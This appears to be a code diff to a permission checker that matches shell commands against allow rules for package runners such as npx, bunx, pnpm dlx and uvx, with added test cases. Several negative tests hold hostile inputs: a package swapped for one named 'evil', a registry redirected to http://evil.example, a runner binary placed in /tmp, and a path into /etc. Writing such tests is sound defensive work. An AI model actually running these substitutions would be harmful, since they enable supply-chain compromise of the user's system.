@@ -80,6 +80,11 @@ def is_said(words: str, command: Command) -> bool:
     shown, _, after = rest.partition("`")
     name, _, pattern = shown.partition(" ")
     given = [w.value for w in command.argv[1:]]
+    if ", also by " in after:
+        others = after.partition(", also by ")[2].replace(" or ", ", ").split(", ")
+        runner = " ".join(command.action.key[:-1])
+        fits = runner in (name, *(o.removesuffix(" --") for o in others)) and command.action.key[-1] == pattern
+        return fits and not ("no file outside" in after and any((w or "").startswith(("/", "~")) for w in given))
     if name.rpartition("/")[2] not in (command.name.rpartition("/")[2], *command.action.key[:1]):
         return False
     if after.startswith(" in front of"):
@@ -118,6 +123,21 @@ def is_said(words: str, command: Command) -> bool:
         ("npx shadcn@latest add x", "npx evil"),
         ("npx shadcn@latest add x", "npx -p evil shadcn@latest"),
         ("npx shadcn@latest add x", "npx shadcn@1.0.0 add x"),
+        ("npx shadcn@latest add x", "bunx shadcn@1.0.0 add x"),
+        ("npx shadcn@latest add x", "bunx -p evil shadcn@latest"),
+        ("npx shadcn@latest add x", "bunx shadcn add x"),
+        ("npx shadcn@latest add x", "npm exec shadcn@latest --package=evil"),
+        ("npx shadcn@latest add x", "npm exec --package=evil -- shadcn@latest"),
+        ("npx shadcn@latest add x", "pnpm -C /tmp dlx shadcn@latest add x"),
+        ("npx shadcn@latest add x", "npm_config_registry=http://evil.example npx shadcn@latest add x"),
+        ("npx shadcn@latest add x", "bunx shadcn@latest add /etc/x"),
+        ("npx shadcn@latest add x", "/tmp/bunx shadcn@latest add x"),
+        ("npx cowsay hi", "uvx cowsay hi"),
+        ("npx cowsay hi", "cowsay hi"),
+        ("npx cow.tgz", "bunx cow.tgz"),
+        ("uvx cow.py", "pipx run cow.py"),
+        ("uvx cowsay hi", "pipx run --spec evil cowsay"),
+        ("uvx cowsay hi", "npx cowsay hi"),
         ("uvx cowsay hi", "uvx --from evil cowsay"),
         ("pnpm dlx cowsay", "pnpm dlx evil"),
         ("ssh web uptime", "ssh db uptime"),
@@ -246,7 +266,12 @@ def test_an_entry_for_a_deletion_is_for_the_project(project: Path, home: Path) -
         ("bd create a -t task", "bd create 'another one' -p 1 --json"),
         ("git push origin dev", "git push -u origin dev"),
         ("npx shadcn@latest add x", "npx shadcn@latest add y --yes"),
+        ("npx shadcn@latest add x", "bunx --bun shadcn@latest add y"),
+        ("npx shadcn@latest add x", "npm exec -- shadcn@latest add y --yes"),
+        ("bun x shadcn@latest add x", "pnpm dlx shadcn@latest add y -w"),
+        ("pnpm dlx shadcn@latest add x -C src", "yarn dlx shadcn@latest add y"),
         ("uvx cowsay hi", "uvx cowsay ho"),
+        ("uv tool run cowsay hi", "pipx run cowsay ho"),
         ("ssh web uptime", "ssh web 'cat /var/log/x | tail -5; df -h'"),
         ("docker exec web ls", "docker exec -it web cat /etc/os-release"),
         ("curl -X POST http://localhost:3000/x -d a=1", "curl -s http://localhost:3000/y -d b=2"),
